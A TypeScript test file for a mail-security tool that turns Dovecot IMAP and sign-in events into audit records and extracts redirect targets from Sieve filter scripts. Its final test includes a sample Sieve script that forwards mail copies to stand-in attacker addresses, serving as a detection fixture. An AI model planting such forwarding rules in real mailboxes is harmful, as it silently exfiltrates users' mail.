import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { parseEvents } from '../../src/mailstack/dovecot-events/dovecot-event.js';
import { decodeMailboxName, expandSet } from '../../src/mailstack/dovecot-events/imap-arguments.js';
import { mapDovecotEvent } from '../../src/mailstack/dovecot-events/map-dovecot-event.js';
import { sieveRedirectTargets } from '../../src/respond/index.js';

const context = { trashFolders: new Set(['trash', 'deleted items']), nowMs: Date.UTC(2026, 0, 1) };
const command = (fields: Record<string, unknown>) => ({
  event: 'imap_command_finished',
  end_time: '2026-11-27T06:29:29.762004Z',
  fields: {
    user: 'Alice@Example.org',
    session: 'S1',
    remote_ip: '203.0.113.7',
    mailbox: 'INBOX',
    tagged_reply_state: 'OK',
    ...fields,
  },
});
const recordOf = (mapped: ReturnType<typeof mapDovecotEvent>) => {
  const [step] = mapped.steps;
  if (step?.kind === 'record') return step.record;
  if (step?.kind === 'close') return step.record;
  assert.fail(`expected a record, got ${JSON.stringify(step)}`);
};

describe('Dovecot event mapping', () => {
  test('refuses bodies that are not Dovecot events, whole', () => {
    for (const body of [
      '',
      'not json',
      '42',
      '[{"event":"x","fields":{}}, 7]',
      '{"fields":{}}',
      '{"event":"x","fields":[]}',
    ])
      assert.equal(parseEvents(body).ok, false, body);
    const lines = parseEvents('{"event":"a","fields":{}}\n{"event":"b","fields":{}}\n');
    assert.ok(lines.ok && lines.events.length === 2);
  });

  test('refuses an event whose fields are not what the exporter writes, rather than dropping it as empty', () => {
    for (const body of [
      '{"event":"auth_request_finished","fields":{"user":{"name":"alice@example.org"},"success":"yes"}}',
      '{"event":"auth_request_finished","fields":{"user":["alice@example.org",1]}}',
      '{"event":"mail_opened","fields":{"user":"alice@example.org","uid":true}}',
      '{"event":"mail_opened","fields":{"user":null}}',
      '{"event":"a","categories":[1],"fields":{}}',
      '{"event":"a","end_time":{},"fields":{}}',
      '{"event":"","fields":{}}',
    ])
      assert.equal(parseEvents(body).ok, false, body);
    const exported = parseEvents(
      '{"event":"mail_opened","hostname":"h","start_time":"2026-11-27T10:00:00Z","end_time":1795773600.5,"categories":["mail"],"fields":{"user":"alice@example.org","uid":7,"reason_code":["imap:fetch_body"]}}',
    );
    assert.ok(exported.ok);
  });

  test('a failed sign-in is a MailboxLogin failure (Dovecot omits success rather than saying no)', () => {
    const failed = recordOf(
      mapDovecotEvent(
        {
          event: 'auth_request_finished',
          fields: { user: 'bob@example.org', service: 'imap', remote_ip: '198.51.100.2' },
        },
        context,
      ),
    );
    assert.equal(failed.input.result, 'failure');
    assert.equal(failed.input.clientIp, '198.51.100.2');
    assert.equal(
      mapDovecotEvent(
        { event: 'auth_request_finished', fields: { user: 'bob@example.org', service: 'lmtp' } },
        context,
      ).steps.length,
      0,
    );
  });

  test('a master-user session is recorded with the admin as actor and logon type admin', () => {
    const record = recordOf(
      mapDovecotEvent(
        command({ cmd_name: 'UID STORE', cmd_args: '4 +FLAGS (\\Seen)', master_user: 'secadmin' }),
        context,
      ),
    );
    assert.equal(record.input.actor, 'secadmin');
    assert.equal(record.input.logonType, 'admin');
    assert.equal(record.input.mailbox, 'alice@example.org');
    assert.equal(record.timeMs, Date.parse('2026-11-27T06:29:29.762Z'));
  });

  test('a move into a trash folder (any case, quoted, modified UTF-7) is MoveToDeletedItems', () => {
    const quoted = recordOf(
      mapDovecotEvent(command({ cmd_name: 'UID MOVE', cmd_args: '3:4 "Deleted Items"' }), context),
    );
    assert.equal(quoted.input.operation, 'MoveToDeletedItems');
    assert.deepEqual(quoted.input.itemIds, ['3', '4']);
    const other = recordOf(
      mapDovecotEvent(command({ cmd_name: 'MOVE', cmd_args: '1 Entw&APw-rfe' }), context),
    );
    assert.equal(other.input.operation, 'Move');
    assert.equal(other.input.destinationFolder, 'Entwürfe');
    assert.equal(other.input.itemIds, null, 'sequence numbers are not UIDs');
  });

  test('a refused command is recorded as a failure with the server’s reply', () => {
    const record = recordOf(
      mapDovecotEvent(
        command({
          cmd_name: 'DELETE',
          mailbox: undefined,
          cmd_args: 'INBOX',
          tagged_reply_state: 'NO',
          tagged_reply: 'NO INBOX can’t be deleted.',
        }),
        context,
      ),
    );
    assert.equal(record.input.operation, 'FolderDelete');
    assert.equal(record.input.result, 'failure');
    assert.equal(record.input.details?.['reply'], 'NO INBOX can’t be deleted.');
  });

  test('commands that change nothing are ignored', () => {
    for (const name of ['NOOP', 'SELECT', 'IDLE', 'FETCH', 'UID FETCH', 'LIST', 'STATUS'])
      assert.equal(mapDovecotEvent(command({ cmd_name: name }), context).steps.length, 0, name);
  });

  test('UID sets expand, bounded; mailbox names decode', () => {
    assert.deepEqual(expandSet('1:3,7'), ['1', '2', '3', '7']);
    assert.deepEqual(expandSet('5:*'), ['5:*']);
    assert.deepEqual(expandSet('1:1000000'), ['1:1000000']);
    assert.equal(decodeMailboxName('Verwijderde items &- co'), 'Verwijderde items & co');
  });

  test('Sieve redirect targets come from the script, not from its comments or strings', () => {
    const script = [
      'require ["copy"];',
      '# redirect "commented@out.example";',
      '/* redirect "block@comment.example"; */',
      'if header :contains "subject" "redirect \\"x@y.z\\"" { redirect :copy "Attacker@Evil.example"; }',
      'redirect "second@evil.example";',
    ].join('\n');
    assert.deepEqual(sieveRedirectTargets(script), ['attacker@evil.example', 'second@evil.example']);
  });
});
